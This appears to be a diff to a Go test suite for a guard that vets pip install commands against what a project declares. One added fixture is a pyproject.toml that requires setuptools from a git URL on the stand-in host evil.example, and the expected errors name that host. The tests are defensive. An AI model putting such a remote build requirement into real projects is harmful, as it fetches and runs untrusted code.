@@ -39,6 +39,8 @@ var pipFiles = map[string]string{
 	"bad/settings.txt":            "x --config-settings=a=b\n",
 	"bad/nested.txt":              "-r url.txt\n",
 	"bad/deep.txt":                "-r missing.txt\n",
+	"bad/enosetup.txt":            "-e ./nosetup\n",
+	"urlbuild/pyproject.toml":     "[build-system]\nrequires = [\"setuptools @ git+https://evil.example/setuptools\"]\n",
 	"dist/x-1.0-py3-none-any.whl": "",
 }
 
@@ -107,6 +109,8 @@ func TestPipInstallsWhatTheProjectDeclares(t *testing.T) {
 		{"pip install", "pip install -r bad/settings.txt", "--config-settings"},
 		{"pip install", "pip install -r bad/nested.txt", "bad/url.txt, line 2"},
 		{"pip install", "pip install -r bad/deep.txt", "does not exist"},
+		{"pip install", "pip install -r bad/enosetup.txt", "no Python project folder"},
+		{"pip install", "pip install -e ./urlbuild", "git+https://evil.example"},
 		{"pip install", "pip install -c ../x.txt .", "outside the project"},
 		{"pip install", "pip install --group evil", "https://evil.example"},
 		{"pip install", "pip install --group nested", "https://evil.example"},
